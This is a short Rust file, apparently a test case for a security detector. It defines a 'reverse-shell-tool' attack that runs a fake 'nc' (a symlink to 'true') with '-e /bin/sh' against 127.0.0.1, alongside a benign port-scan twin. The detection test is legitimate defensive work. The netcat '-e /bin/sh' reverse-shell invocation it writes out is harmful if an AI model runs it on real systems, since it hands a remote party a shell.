//! A network tool that is given a shell.

use std::{os::unix::fs::symlink, process::Command};

use crate::{Attack, stage::Stage};

pub(super) const ATTACK: Attack = Attack {
    name: "reverse-shell-tool",
    rule: "Network tool hands out a shell",
    about: "starts something that is called nc, and does nothing, with -e /bin/sh",
    twin: "starts the same to look for an open port",
    attack: |stage| nc(stage, &["127.0.0.1", "1", "-e", "/bin/sh"]),
    benign: |stage| nc(stage, &["-z", "127.0.0.1", "1"]),
};

fn nc(stage: &Stage, arguments: &[&str]) -> anyhow::Result<()> {
    let link = stage.path("nc");
    symlink(stage.tool("true")?, &link)?;
    stage.run(Command::new(link).args(arguments))
}
